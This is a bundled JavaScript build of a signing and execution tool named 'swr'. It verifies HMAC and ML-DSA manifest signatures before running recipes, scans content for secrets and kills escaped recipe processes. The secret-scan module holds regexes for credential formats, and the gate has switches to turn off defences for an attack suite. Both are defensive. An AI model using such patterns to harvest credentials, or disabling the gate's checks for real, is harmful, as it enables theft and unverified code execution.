async function lookupSavedStates(m, entries, cache) {
    const out = [];
    for (const e of entries) {
        const key = stateKey(e);
        out.push({
            id: e.id,
            key,
            available: await cache.lookup(resolveEntryPath(m.workspace, e.path), key)
        });
    }
    return out;
}

// EXTERNAL MODULE: ./node_modules/picomatch/index.js
var node_modules_picomatch = __webpack_require__(14006);
var picomatch_default = /*#__PURE__*/__webpack_require__.n(node_modules_picomatch);
;// CONCATENATED MODULE: ./src/core/sign/envelope.ts
/**
 * What a signature signs. Signatures never live inside the bytes they sign: the signing input is
 * DSSE's pre-authentication encoding of the canonical (RFC 8785) body, which binds the payload
 * type, and with it the manifest format and the signature-format version:
 *   "DSSEv1" SP len(type) SP type SP len(body) SP body
 */

const PAYLOAD_TYPE = 'application/vnd.swr.manifest.v3+json';
/** DSSE pre-authentication encoding of `payload` under `type`. */
function pae(type, payload) {
    const t = Buffer.from(type, 'utf8');
    const head = Buffer.from(`DSSEv1 ${t.length} ${type} ${payload.length} `, 'utf8');
    return Buffer.concat([head, payload]);
}
/** The exact bytes every manifest signature covers. */
function signingInput(body, type = PAYLOAD_TYPE) {
    return pae(type, canonicalBytes(body));
}

;// CONCATENATED MODULE: ./src/core/sign/hmac.ts
/**
 * HMAC-SHA256 signatures: "this machine approved it". Anyone who can verify can forge, so HMAC
 * alone never authorises recipes in CI unless the workflow asks for exactly that. The key comes
 * from SWR_HMAC_KEY, a 0600 key file in the private state directory, or a secret action input:
 * never from the workspace. Comparison is constant-time.
 */

/** Short, non-secret identifier of a key (shown to tell "other key" from "tampered"). */
function hmacKeyId(key) {
    return (0,external_node_crypto_.createHash)('sha256').update('swr-hmac-keyid\0').update(key).digest('hex').slice(0, 16);
}
function signHmac(key, input) {
    return {
        alg: 'hmac-sha256',
        keyid: hmacKeyId(key),
        sig: (0,external_node_crypto_.createHmac)('sha256', key).update(input).digest('hex')
    };
}
function verifyHmac(key, input, sig) {
    if (!/^[0-9a-f]{64}$/.test(sig.sig))
        return false;
    const want = (0,external_node_crypto_.createHmac)('sha256', key).update(input).digest();
    return (0,external_node_crypto_.timingSafeEqual)(want, Buffer.from(sig.sig, 'hex'));
}
/** Key bytes from the text of SWR_HMAC_KEY or a key file: 64 hex digits, or at least 32 characters. */
function parseHmacKey(text) {
    const t = text.trim();
    if (/^[0-9a-fA-F]{64}$/.test(t))
        return Buffer.from(t, 'hex');
    if (t.length >= 32)
        return Buffer.from(t, 'utf8');
    return undefined;
}

;// CONCATENATED MODULE: ./src/core/sign/mldsa.ts
/**
 * ML-DSA-87 (FIPS 204) signatures with @noble/post-quantum (audited only by its authors: say so
 * when it matters). The module is loaded on first use, so checking an unsigned or HMAC-only
 * manifest never pays for it. The public key travels with the signature; its fingerprint is always
 * recomputed from the key, never read from the document.
 */

/**
 * Domain separation: a signature made for one swr purpose never verifies for another (a seal's
 * signature is not a manifest's, whatever bytes it covers).
 */
const CONTEXTS = {
    manifest: new TextEncoder().encode('swr/manifest-signature/v1'),
    seal: new TextEncoder().encode('swr/seal-signature/v1')
};
const PUBLIC_KEY_BYTES = 2592;
const SIGNATURE_BYTES = 4627;
let loaded;
async function mldsa() {
    loaded ??= (await __webpack_require__.e(/* import() */ 925).then(__webpack_require__.bind(__webpack_require__, 44925))).ml_dsa87;
    return loaded;
}
/** Full SHA-256 over the algorithm name, a zero byte and the raw public key (hex). */
function fingerprint(publicKey) {
    return (0,external_node_crypto_.createHash)('sha256').update('ml-dsa-87\0').update(publicKey).digest('hex');
}
/** "ab12 cd34 ..." for people; `normalizeFingerprint` reads any spacing or case back. */
function mldsa_groupFingerprint(fp) {
    return fp.match(/.{1,4}/g)?.join(' ') ?? fp;
}
function normalizeFingerprint(text) {
    const t = text.replace(/[\s:-]/g, '').toLowerCase();
    return /^[0-9a-f]{64}$/.test(t) ? t : undefined;
}
async function mldsa_identityFromSeed(seed) {
    const { publicKey, secretKey } = (await mldsa()).keygen(seed);
    return { publicKey, secretKey, fingerprint: fingerprint(publicKey) };
}
async function signMldsa(id, input, purpose = 'manifest') {
    const sig = (await mldsa()).sign(input, id.secretKey, { context: CONTEXTS[purpose] });
    return {
        alg: 'ml-dsa-87',
        keyid: id.fingerprint,
        public_key: Buffer.from(id.publicKey).toString('base64'),
        sig: Buffer.from(sig).toString('base64')
    };
}
/** Decoded key and signature, or undefined when either is malformed (never throws). */
function decodeMldsa(s) {
    const b64 = /^[A-Za-z0-9+/]+={0,2}$/;
    if (!b64.test(s.public_key) || !b64.test(s.sig))
        return undefined;
    const publicKey = Buffer.from(s.public_key, 'base64');
    const sig = Buffer.from(s.sig, 'base64');
    if (publicKey.length !== PUBLIC_KEY_BYTES || sig.length !== SIGNATURE_BYTES)
        return undefined;
    return { publicKey, sig };
}
/** Load the implementation now, so `verifyMldsaLoaded` can run synchronously (inside a stream). */
async function loadMldsa() {
    await mldsa();
}
/** `verifyMldsa` without the wait; only after `loadMldsa()` resolved (else it throws). */
function verifyMldsaLoaded(publicKey, input, sig, purpose) {
    if (!loaded)
        throw new Error('ML-DSA is not loaded');
    try {
        return loaded.verify(sig, input, publicKey, { context: CONTEXTS[purpose] });
    }
    catch {
        return false;
    }
}
async function verifyMldsa(publicKey, input, sig, purpose = 'manifest') {
    try {
        return (await mldsa()).verify(sig, input, publicKey, { context: CONTEXTS[purpose] });
    }
    catch {
        return false;
    }
}

;// CONCATENATED MODULE: ./src/core/sign/gate.ts
/**
 * The gate: the one function that decides whether a manifest's code (restore recipes, smoke
 * commands, exported scripts) may run. Every path that executes manifest content asks it first.
 *
 *   expiry -> scope -> rollback floor -> signatures (per the required kinds) -> allowed
 *
 * Cheap refusals come first; ML-DSA is loaded only when a signature of that kind must be checked.
 * `Defenses` exists so the attack suite can switch each defence off and show that it matters; the
 * shells never pass anything but the default.
 */





const REQUIREMENTS = ['any', 'hmac', 'mldsa', 'both'];
const ALL_DEFENSES = Object.freeze({
    signatures: true,
    trust: true,
    fingerprintFromKey: true,
    payloadType: true,
    expiry: true,
    scope: true,
    rollback: true
});
/** What the gate reads of a loaded manifest. */
function gate_gateInput(m) {
    // The document as read: a run may extend `m.body` with sealed entries it resolved (seal/entries.ts).
    return { body: m.doc.body, signatures: m.doc.signatures, digest: m.digest };
}
/** Each signature's state under `policy` (no decision). */
async function gate_evaluateSignatures(m, policy, defenses = ALL_DEFENSES) {
    const raw = defenses.payloadType ? signingInput(m.body, PAYLOAD_TYPE) : canonicalBytes(m.body);
    const out = [];
    for (const s of m.signatures) {
        if (s.alg === 'hmac-sha256') {
            out.push({ alg: s.alg, keyid: s.keyid, state: hmacState(s, raw, policy.hmacKey, defenses) });
            continue;
        }
        const decoded = decodeMldsa(s);
        if (!decoded) {
            out.push({ alg: s.alg, keyid: s.keyid, state: 'invalid' });
            continue;
        }
        const fp = defenses.fingerprintFromKey ? fingerprint(decoded.publicKey) : s.keyid;
        const ok = !defenses.signatures || (await verifyMldsa(decoded.publicKey, raw, decoded.sig));
        const trusted = !defenses.trust || policy.trusted.has(fp);
        out.push({
            alg: s.alg,
            keyid: s.keyid,
            fingerprint: fp,
            state: !ok ? 'invalid' : trusted ? 'valid' : 'untrusted'
        });
    }
    return out;
}
/**
 * Another machine's HMAC (another keyid) is not checked with this key: it would fail and read as
 * tampering. Its keyid is the signer's word only, so it never makes a signature count: a key that
 * is not this run's cannot make `valid`.
 */
function hmacState(s, raw, key, defenses) {
    if (!key)
        return 'no-key';
    if (s.keyid !== hmacKeyId(key))
        return 'other-key';
    return !defenses.signatures || verifyHmac(key, raw, s) ? 'valid' : 'invalid';
}
/** May this manifest's code run? */
async function gate_decide(m, policy, defenses = ALL_DEFENSES) {
    const refuse = (reason, signatures = []) => ({
        allowed: false,
        reason,
        signatures,
        warnings: []
    });
    const body = m.body;
    if (defenses.expiry &&
        body.expires !== undefined &&
        !(Date.parse(body.expires) > policy.now.getTime()) // an unreadable date fails closed
    ) {
        return refuse(`manifest expired at ${body.expires}`);
    }
    if (defenses.scope) {
        const scopeProblem = checkScope(body, policy.run);
        if (scopeProblem)
            return refuse(scopeProblem);
    }
    if (defenses.rollback) {
        const rollback = checkRollback(body.version, m.digest, policy);
        if (rollback)
            return refuse(rollback);
    }
    if (policy.waiveDigest !== undefined) {
        if (policy.waiveDigest.toLowerCase() !== m.digest) {
            return refuse(`--i-trust-this-manifest names another digest than the manifest's`);
        }
        return {
            allowed: true,
            reason: 'signature requirement waived for this exact digest',
            signatures: await gate_evaluateSignatures(m, policy, defenses),
            warnings: [`signature requirement waived by --i-trust-this-manifest for digest ${m.digest}`]
        };
    }
    // HMAC first: it is cheap, and with require=both a missing HMAC spares the ML-DSA load.
    const states = await gate_evaluateSignatures(m, policy, defenses);
    const hmacOk = states.some(s => s.alg === 'hmac-sha256' && s.state === 'valid');
    const signers = new Set(states.filter(s => s.alg === 'ml-dsa-87' && s.state === 'valid').map(s => s.fingerprint));
    const threshold = policy.threshold ?? 1;
    const mldsaOk = signers.size >= threshold;
    const need = describeNeed(policy.require, threshold);
    const ok = policy.require === 'any'
        ? hmacOk || mldsaOk
        : policy.require === 'hmac'
            ? hmacOk
            : policy.require === 'mldsa'
                ? mldsaOk
                : hmacOk && mldsaOk;
    if (!ok)
        return refuse(`${summarise(states)}; ${need} required`, states);
    const by = [
        hmacOk ? 'HMAC' : '',
        mldsaOk ? `${signers.size} trusted ML-DSA signer(s)` : ''
    ].filter(Boolean);
    return { allowed: true, reason: `signed: ${by.join(' and ')}`, signatures: states, warnings: [] };
}
/**
 * The signature half of the gate alone: do the signatures the policy requires hold over this exact
 * body? For content nothing may echo before a trusted signer vouched for it (a pulled copy filled
 * in from the environment): expiry, scope and floor quote the body's own strings, so they come
 * after, in a full `decide`. The refusal names signatures by algorithm, state and recomputed
 * fingerprint only.
 */
async function gate_signaturesHold(m, policy) {
    return gate_decide(m, policy, { ...ALL_DEFENSES, expiry: false, scope: false, rollback: false });
}
function describeNeed(r, threshold) {
    const ml = threshold > 1 ? `${threshold} distinct trusted ML-DSA signers` : 'a trusted ML-DSA signature';
    switch (r) {
        case 'any':
            return `a valid HMAC or ${ml}`;
        case 'hmac':
            return 'a valid HMAC signature';
        case 'mldsa':
            return ml;
        case 'both':
            return `a valid HMAC and ${ml}`;
    }
}
function summarise(states) {
    if (states.length === 0)
        return 'manifest is unsigned';
    const parts = states.map(s => {
        // An undecodable key has no fingerprint, and its keyid is the document's word: not shown.
        const who = s.alg === 'hmac-sha256'
            ? 'HMAC'
            : s.fingerprint
                ? `ML-DSA ${s.fingerprint.slice(0, 16)}`
                : 'ML-DSA (malformed key)';
        if (s.state === 'no-key')
            return `${who}: no HMAC key on this run`;
        if (s.state === 'other-key')
            return `${who}: made with another key, cannot be checked here`;
        return `${who}: ${s.state === 'untrusted' ? 'untrusted signer' : s.state}`;
    });
    return parts.join(', ');
}
function checkScope(body, run) {
    const scope = body.scope;
    if (!scope)
        return undefined;
    if (scope.repository !== undefined &&
        scope.repository.toLowerCase() !== (run.repository ?? '').toLowerCase()) {
        return `manifest is scoped to repository ${scope.repository}, this run is ${run.repository ?? 'outside any repository (GITHUB_REPOSITORY unset)'}`;
    }
    if (scope.ref !== undefined &&
        !(run.ref !== undefined && picomatch_default().isMatch(run.ref, scope.ref, { dot: true }))) {
        return `manifest is scoped to ref ${scope.ref}, this run is ${run.ref ?? 'on no ref (GITHUB_REF unset)'}`;
    }
    if (scope.manifest_path !== undefined && scope.manifest_path !== run.manifestPath) {
        return `manifest is scoped to path ${scope.manifest_path}, it was read from ${run.manifestPath ?? 'outside the workspace'}`;
    }
    return undefined;
}
function checkRollback(version, digest, policy) {
    if (policy.minVersion !== undefined && version < policy.minVersion) {
        return `manifest version ${version} is below the floor ${policy.minVersion} (a rollback to an older manifest?)`;
    }
    const r = policy.remembered;
    if (r && version < r.version) {
        return `manifest version ${version} is older than version ${r.version} already accepted here (a rollback?)`;
    }
    if (r && version === r.version && digest !== r.digest) {
        return `manifest version ${version} was accepted here with another digest: the same version must not change`;
    }
    return undefined;
}

;// CONCATENATED MODULE: ./src/core/capture/secret-scan.ts
/** Names a credential hides behind: `DB_PASSWORD`, `clientSecret`, `PrivateKey`, `_authToken`… */
const SECRET_KEY = '(?:pass(?:word|wd|phrase)?|pwd|secret|token|api[_-]?key|access[_-]?key|secret[_-]?key|private[_-]?key|client[_-]?key[_-]?data|auth)';
/** Dotenv and direnv files, not their templates (which list names with placeholder values). */
const DOTENV = (name) => (name === '.env' || name === '.envrc' || name.startsWith('.env.')) &&
    !/^\.env\.(example|sample|template|dist)$/.test(name);
/**
 * swr's own rules: each is a shape the maintained set does not report.
 * - assignment, json-field: a value given to a key named like a credential (`*_PASSWORD=`,
 *   `*_SECRET=`, `api_key:`, `"password": "…"`). secretlint has no keyword rule by design (false
 *   positives in source code); escrow would rather refuse a config file than embed its password.
 *   This also covers WireGuard `PrivateKey =`, kubeconfig `client-key-data:`/`token:`, .npmrc
 *   `_auth=`/`_authToken=`, .pypirc `password =` and the `auth` of docker/podman `auth.json`.
 *   Line-start keys only, and values that end where a word ends, so `token = getToken()` in code
 *   is not one; `${VAR}`, `$(cmd)`, `<…>` and `{{…}}` references are not values.
 * - age, stripe, rubygems, pypi: provider formats missing from the set.
 * - netrc: `machine … login … password …` wherever it is written, and a `password X` line.
 * - dotenv-value: in a .env/.envrc file, a long random-looking value under any name.
 */
const OWN_RULES = [
    {
        id: 'assignment',
        re: new RegExp(`^[ \\t]*(?:export[ \\t]+|-[ \\t]+)?["']?[\\w.\\-/:@]*?${SECRET_KEY}["']?[ \\t]*[:=][ \\t]*["']?(?<v>[^\\s"'#,;()\\[\\]{}<>]{6,})(?=["']?(?:[\\s,;#]|$))`, 'gim')
    },
    {
        id: 'json-field',
        re: new RegExp(`"[\\w.\\-]*?${SECRET_KEY}"[ \\t]*:[ \\t]*"(?<v>[^"\\s]{6,})"`, 'gi')
    },
    { id: 'age', re: /AGE-SECRET-KEY-1[QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L]{58}/g },
    { id: 'stripe', re: /\b[rs]k_(?:live|test)_[0-9A-Za-z]{24,247}\b/g },
    { id: 'rubygems', re: /\brubygems_[0-9a-f]{48}\b/g },
    { id: 'pypi', re: /\bpypi-AgEIcHlwaS5vcmc[A-Za-z0-9_-]{50,}/g },
    { id: 'netrc', re: /\bmachine\s+\S+\s+(?:login\s+\S+\s+)?password\s+(?<v>\S+)/g },
    // A netrc written one token pair a line, as it is read a line at a time.
    { id: 'netrc', re: /^[ \t]*password[ \t]+(?<v>\S+)[ \t]*$/gm },
    {
        id: 'dotenv-value',
        re: /^[ \t]*(?:export[ \t]+)?[A-Za-z_][\w.]*[ \t]*=[ \t]*["']?(?<v>(?=[^\s"']*[A-Za-z])(?=[^\s"']*\d)[A-Za-z0-9+/=_][A-Za-z0-9+/=_-]{19,})["']?[ \t]*$/gm,
        files: DOTENV
    }
];
/** Values that stand for a secret without being one: references, placeholders, flags, numbers. */
const NOT_A_VALUE = /^(?:[$%*<{[]|true$|false$|yes$|no$|null$|none$|nil$|undefined$|required$|optional$|\d+$|(.)\1*$)|example|placeholder|your[_-]|changeme|redacted/i;
function ownScan(text, file) {
    const name = file?.slice(file.lastIndexOf('/') + 1) ?? '';
    const found = [];
    for (const rule of OWN_RULES) {
        if (rule.files && !rule.files(name))
            continue;
        const values = [...text.matchAll(rule.re)]
            .map(m => m.groups?.v ?? m[0])
            .filter(v => !NOT_A_VALUE.test(v));
        if (values.length > 0)
            found.push({ rule: `swr/${rule.id}`, values });
    }
    return found;
}
/** Strings of at least 8 characters that a report's data quotes and the text holds. */
function secret_scan_quoted(data, text) {
    if (data === null || typeof data !== 'object')
        return [];
    return Object.values(data).filter((v) => typeof v === 'string' && v.length >= 8 && text.includes(v));
}
/**
 * The preset's rules behind one synchronous scan. Each rule is created once; its reports go to
 * the scan in progress. A report's secret is the string its data quotes (a report's range is not
 * always the secret's: the AWS secret rule's starts at the key's name), else its range.
 */
function hostRules(rules) {
    let sink;
    const handlers = [];
    // secretlint-rule-aws reports access key ids only with this option set.
    const options = {
        '@secretlint/secretlint-rule-aws': { enableIDScanRule: true }
    };
    for (const rule of rules) {
        if (rule.meta.type !== 'scanner')
            continue; // the comment filter: see the module comment
        const name = rule.meta.id.replace(/^@secretlint\/secretlint-rule-/, '');
        const handler = rule.create({
            sharedOptions: {},
            createTranslator: () => ((messageId, data) => ({
                message: messageId,
                messageId,
                data
            })),
            report: d => {
                if (!sink)
                    return;
                const fromData = secret_scan_quoted(d.data ?? d.message.data, sink.text);
                const values = fromData.length > 0 ? fromData : [sink.text.slice(d.range[0], d.range[1])];
                sink.out.push({ rule: `${name}/${d.message.messageId}`, values });
            },
            ignore: () => { }
        }, options[rule.meta.id] ?? {});
        if (handler.file)
            handlers.push(handler);
    }
    return (text, file) => {
        const ext = /\.[^./]+$/.exec(file ?? '')?.[0] ?? '';
        const source = {
            content: text,
            // A rule that would open its file (GCP's .p12 check) gets no path to open.
            filePath: ext === '.p12' ? undefined : file,
            physicalFilePath: undefined,
            contentType: 'text',
            ext,
            hasBOM: false,
            getFilePath: () => file,
            getPhysicalFilePath: () => undefined,
            // Locations are for editors; no rule of the set judges by them.
            locationToRange: () => [0, 0],
            rangeToLocation: () => ({ start: { line: 1, column: 0 }, end: { line: 1, column: 0 } }),
            positionToIndex: () => 0,
            indexToPosition: () => ({ line: 1, column: 0 })
        };
        const out = [];
        sink = { text, out };
        try {
            for (const h of handlers) {
                // The text rules report synchronously; a rule that answers later is not waited for.
                const pending = h.file?.(source);
                if (pending)
                    pending.catch(() => { });
            }
        }
        finally {
            sink = undefined;
        }
        return out;
    };
}
/** swr's own rules alone: synchronous, nothing to load (what `add` judges content by). */
const ownSecretScan = ownScan;
let secret_scan_loaded;
/** The maintained rule set and swr's own rules, loaded once, on first call. */
function secret_scan_loadSecretScan() {
    secret_scan_loaded ??= __webpack_require__.e(/* import() */ 577).then(__webpack_require__.bind(__webpack_require__, 31577)).then(preset => {
        const maintained = hostRules(preset.rules);
        return (text, file) => [...ownScan(text, file), ...maintained(text, file)];
    });
    return secret_scan_loaded;
}

// EXTERNAL MODULE: external "node:child_process"
var external_node_child_process_ = __webpack_require__(31421);
// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(73024);
var external_node_fs_default = /*#__PURE__*/__webpack_require__.n(external_node_fs_);
;// CONCATENATED MODULE: ./src/core/exec/escaped.ts
/**
 * Finding the processes a recipe started that left its process group (`setsid`, a daemonizing
 * server): each recipe runs with a random SWR_RUN_TOKEN in its environment, which children
 * inherit, and /proc tells which processes carry it. Linux only; elsewhere nothing is found.
 * A process that clears its own environment is not found either.
 */


const RUN_TOKEN_VAR = 'SWR_RUN_TOKEN';
function newRunToken() {
    return (0,external_node_crypto_.randomBytes)(16).toString('hex');
}
/** Processes other than this one whose environment carries `token`. */
function findTagged(token) {
    const needle = Buffer.from(`${RUN_TOKEN_VAR}=${token}\0`);
    let pids;
    try {
        pids = external_node_fs_default().readdirSync('/proc').filter(n => /^\d+$/.test(n));
    }
    catch {
        return [];
    }
    const out = [];
    for (const p of pids) {
        const pid = Number(p);
        if (pid === process.pid)
            continue;
        try {
            const env = external_node_fs_default().readFileSync(`/proc/${p}/environ`);
            if (!env.includes(needle))
                continue;
            const name = external_node_fs_default().readFileSync(`/proc/${p}/comm`, 'utf8').trim();
            out.push({ pid, name });
        }
        catch {
            // Gone, or not ours to read.
        }
    }
    return out;
}
const sleep = (ms) => new Promise(r => setTimeout(r, ms));
/**
 * Stop every process carrying `token`: SIGTERM, up to `graceMs` to go, then SIGKILL. Returns what
 * was found, for the report.
 */
async function killTagged(token, graceMs) {
    const found = findTagged(token);
    if (found.length === 0)
        return found;
    const signal = (sig) => {
        for (const p of found) {
            try {
                process.kill(p.pid, sig);
            }
            catch {
                // Already gone.
            }
        }
    };
    signal('SIGTERM');
    const deadline = Date.now() + graceMs;
    while (Date.now() < deadline && findTagged(token).length > 0)
        await sleep(50);
    signal('SIGKILL');
    // A zombie keeps its environ readable until reaped; SIGKILL is enough, do not wait on it.
    return found;
}

;// CONCATENATED MODULE: ./src/core/process/proc.ts
/**
 * What /proc says about a process or a process group, for telling a live lock holder from a dead
 * one. Where /proc is missing (macOS) a start time is unknown and a group is judged by signal 0.
 */

function procStat(pid) {
    let stat;
    try {
        stat = external_node_fs_default().readFileSync(`/proc/${pid}/stat`, 'utf8');
    }
    catch {
        return undefined;
    }
    // Fields after the command name (which may hold spaces and parentheses): state is the first,
    // pgrp the third, starttime (field 22) the twentieth.
    const f = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
    return { state: f[0] ?? '?', pgrp: Number(f[2]), start: f[19] ?? '' };
}
const running = (st) => st !== undefined && st.state !== 'Z' && st.state !== 'X';
/** The kernel's start time of a process (clock ticks since boot), where /proc has it. */
function startTime(pid) {
    return procStat(pid)?.start || undefined;
}
/** Whether process `pid`, started at `start` when that is known, runs now (a zombie does not). */
function processRuns(pid, start) {
    try {
        process.kill(pid, 0);
    }
    catch (err) {
        // EPERM: alive, under another user.
        if (err.code !== 'EPERM')
            return false;
    }
    const st = procStat(pid);
    if (st === undefined)
        return true;
    return running(st) && !(start && st.start !== start);
}
/**
 * Whether process group `pgid`, whose leader started at `start`, still has a running member. A
 * group of zombies nobody reaps (an orphan's parent is init, which need not reap in a container)
 * answers signal 0 but runs nothing; a leader pid with another start time means the group id was
 * reused after the recorded group ended.
 */
function groupRuns(pgid, start) {
    try {
        process.kill(-pgid, 0);
    }
    catch (err) {
        // EPERM: a member runs under another user.
        return err.code === 'EPERM';
    }
    if (!external_node_fs_default().existsSync('/proc/self/stat'))
        return true;
    const leader = procStat(pgid);
    if (leader && leader.pgrp === pgid) {
        if (start && leader.start !== start)
            return false;
        if (running(leader))
            return true;
    }
    let pids;
    try {
        pids = external_node_fs_default().readdirSync('/proc').filter(n => /^\d+$/.test(n));
    }
    catch {
        return true;
    }
    return pids.some(p => {
        const st = procStat(p);
        return running(st) && st?.pgrp === pgid;
    });
}

;// CONCATENATED MODULE: ./src/core/process/groups.ts
/**
 * The process groups of the recipes this process runs now. The locks it holds record them beside
 * their notes: a holder killed with SIGKILL cannot stop its recipe, which runs on as an orphan in
 * its own process group, and its locks stay held until that group has ended, so no second run
 * starts the same recipe beside it.
 */

const groups_running = new Map();
const listeners = new Set();
function notify() {
    const groups = [...groups_running.values()];
    for (const l of listeners)
        l(groups);
}
/** A recipe's process group (led by `pgid`) started: called right after the spawn. */
function groupStarted(pgid) {
    groups_running.set(pgid, { pgid, start: startTime(pgid) });
    notify();
}
/** The group has ended (reaped): called once nothing of it runs. */
function groupEnded(pgid) {
    if (groups_running.delete(pgid))
        notify();
}
/** Call `listener` with the running groups now (when there are any) and at every change. */
function watchGroups(listener) {
    listeners.add(listener);
    if (groups_running.size > 0)
        listener([...groups_running.values()]);
    return () => void listeners.delete(listener);
}

// EXTERNAL MODULE: external "node:string_decoder"
var external_node_string_decoder_ = __webpack_require__(46193);
;// CONCATENATED MODULE: ./src/core/exec/output.ts
/**
 * Recipe output handling: split each stream into lines on its own (stdout and stderr interleave,
 * and a secret must never be cut in two by the other stream), decode UTF-8 across chunk
 * boundaries, and keep a bounded tail measured in bytes, in constant time per line.
 */

/** Feed chunks of one stream; whole lines go to `onLine`; `end` flushes the last partial line. */
function lineSplitter(onLine, maxLine) {
    const decoder = new external_node_string_decoder_.StringDecoder('utf8');
    let partial = '';
    const take = (text) => {
        const lines = (partial + text).split('\n');
        partial = lines.pop() ?? '';
        for (const l of lines)
            onLine(l);
        if (partial.length > maxLine) {
            onLine(partial);
            partial = '';
        }
    };
    return {
        push: chunk => take(decoder.write(chunk)),
        end: () => {
            take(decoder.end());
            if (partial)
                onLine(partial);
            partial = '';
        }
    };
}
/** The last `maxBytes` bytes of output, kept as whole lines. */
function tailKeeper(maxBytes) {
    const lines = [];
    const sizes = [];
    let head = 0;
    let bytes = 0;
    let cut = false;
    return {
        add(line) {
            let l = line + '\n';
            let n = Buffer.byteLength(l);
            if (n > maxBytes) {
                // One line longer than the whole budget: keep its end.
                l = Buffer.from(l)
                    .subarray(n - maxBytes)
                    .toString('utf8')
                    .replace(/^\uFFFD+/, '');
                n = Buffer.byteLength(l);
                cut = true;
            }
            lines.push(l);
            sizes.push(n);
            bytes += n;
            while (bytes > maxBytes && head < lines.length) {
                bytes -= sizes[head] ?? 0;
                head++;
                cut = true;
            }
            if (head > 1024 && head * 2 > lines.length) {
                lines.splice(0, head);
                sizes.splice(0, head);
                head = 0;
            }
        },
        text: () => lines.slice(head).join(''),
        truncated: () => cut
    };
}

;// CONCATENATED MODULE: ./src/core/exec/recipe.ts
/**
 * Running one recipe: a non-login shell in the workspace, in its own process group, with a minimal
 * environment. A timeout, an abort (Ctrl-C of swr) or the end of the recipe stops the whole group,
 * SIGTERM first and SIGKILL after a grace period, so no grandchild (git, curl, cmake) outlives it.
 * A process that left the group (`setsid`) is found by the run token in its environment, stopped
 * and reported; and once the recipe's own process has exited, swr waits at most a grace period
 * for the output pipes such a process may hold open. While the group runs, the locks this process
 * holds record it (`groups.ts`).
 * Output is split into lines, scrubbed, streamed to `onLine`, and kept bounded for the report.
 */




const KEEP_BYTES = 64 * 1024;
const DEFAULT_GRACE_MS = 3000;
const BASE_ENV_NAMES = ['PATH', 'HOME', 'LANG', 'TMPDIR'];
/** PATH, HOME, LANG, TMPDIR and the named variables, taken from `from` when set there. */
function minimalEnv(from, names) {
    const env = {};
    for (const n of [...BASE_ENV_NAMES, ...names]) {
        const v = from[n];
        if (v !== undefined)
            env[n] = v;
    }
    env.PATH ??= '/usr/local/bin:/usr/bin:/bin';
    return env;
}
function killGroup(pid, signal) {
    try {
        process.kill(-pid, signal);
    }
    catch {
        // Already gone.
    }
}
/**
 * The leader's first words: wait for swr's go on fd 3 (end of file, when swr died first, stops
 * here), close it, then become the recipe's shell, or say in one line that it cannot.
 */
const GATE = 'read -r go <&3 || exit 125; exec 3<&-; command -v "$1" >/dev/null 2>&1 || { echo "cannot start $1: not found" >&2; exit 127; }; exec "$@"';
function runRecipe(spec, hooks) {
    const started = performance.now();
    const [cmd, ...args] = spec.shell;
    const token = newRunToken();
    const unusable = [cmd, ...args, spec.command, spec.cwd, ...Object.entries(spec.env).flat()].find(v => v?.includes('\0'));
    // spawn() throws on a NUL byte; the validator refuses them at load, and this refuses the rest.
    if (unusable !== undefined)
        return Promise.resolve(notStarted(spec, 'a NUL byte in its command, shell, directory or environment'));
    return new Promise(resolve => {
        // The group leader waits at a gate (fd 3) and only then becomes the recipe's shell (exec: the
        // same pid, group and start time), so the group is on record before any of the recipe runs.
        const child = (0,external_node_child_process_.spawn)('/bin/sh', ['-c', GATE, 'swr-recipe', cmd ?? 'bash', ...args, spec.command], {
            cwd: spec.cwd,
            env: { ...spec.env, [RUN_TOKEN_VAR]: token },
            detached: true, // its own process group, so the whole group can be stopped
            stdio: ['ignore', 'pipe', 'pipe', 'pipe']
        });
        // The locks this process holds record the group, so that if swr is killed from now on the
        // orphaned recipe keeps them until it ends; a swr killed before this never opens the gate.
        if (child.pid !== undefined)
            groupStarted(child.pid);
        const gate = child.stdio[3];
        gate?.on('error', () => undefined);
        gate?.end('go\n');
        const kept = tailKeeper(KEEP_BYTES);
        let timedOut = false;
        let interrupted = false;
        let exited;
        const emit = (line) => {
            const clean = hooks.scrub(line);
            hooks.onLine?.(spec.id, clean);
            kept.add(clean);
        };
        // Each stream is split on its own: interleaved stderr must not cut a stdout line in two.
        const out = lineSplitter(emit, KEEP_BYTES);
        const err = lineSplitter(emit, KEEP_BYTES);
        child.stdout?.on('data', out.push);
        child.stderr?.on('data', err.push);
        const grace = spec.graceMs ?? DEFAULT_GRACE_MS;
        let killer;
        const stop = () => {
            if (child.pid === undefined || killer)
                return;
            killGroup(child.pid, 'SIGTERM');
            killer = setTimeout(() => killGroup(child.pid, 'SIGKILL'), grace);
        };
        const timer = setTimeout(() => {
            timedOut = true;
            stop();
        }, spec.timeoutMs);
        const onAbort = () => {
            interrupted = true;
            stop();
        };
        hooks.abort?.addEventListener('abort', onAbort, { once: true });
        if (hooks.abort?.aborted)
            onAbort();
        let finished = false;
        let pipeTimer;
        const finish = async () => {
            if (finished)
                return;
            finished = true;
            clearTimeout(timer);
            clearTimeout(pipeTimer);
            // Nothing of the group may outlive the recipe: what ignored SIGTERM gets SIGKILL before we
            // return, not on a timer that a finished swr would never fire.
            if (child.pid !== undefined) {
                await reapGroup(child.pid, grace);
                groupEnded(child.pid);
            }
            if (killer)
                clearTimeout(killer);
            const escaped = await killTagged(token, Math.min(grace, 1000));
            if (escaped.length > 0)
                emit(`swr: stopped ${escaped.length} process(es) that left the recipe's process group: ${escaped
                    .map(p => `${p.pid} (${p.name})`)
                    .join(', ')}`);
            child.stdout?.destroy();
            child.stderr?.destroy();
            hooks.abort?.removeEventListener('abort', onAbort);
            out.end();
            err.end();
            resolve({
                id: spec.id,
                exitCode: exited?.code ?? null,
                signal: exited?.signal ?? null,
                timedOut,
                interrupted,
                ms: Math.round(performance.now() - started),
                output: kept.text(),
                truncated: kept.truncated(),
                escaped
            });
        };
        child.on('error', err => {
            emit(`cannot start ${cmd ?? 'bash'}: ${err.message}`);
            exited = { code: 127, signal: null };
            void finish();
        });
        child.on('exit', (code, signal) => {
            exited = { code, signal };
            // Background processes the recipe left behind go with it (and release the output pipes).
            if (child.pid !== undefined && groupAlive(child.pid))
                stop();
            // A process outside the group may hold the pipes open for ever: stop waiting for them.
            pipeTimer = setTimeout(() => void finish(), grace + 500);
        });
        child.on('close', () => void finish());
    });
}
function notStarted(spec, why) {
    const line = `cannot start: ${why}`;
    return {
        id: spec.id,
        exitCode: 127,
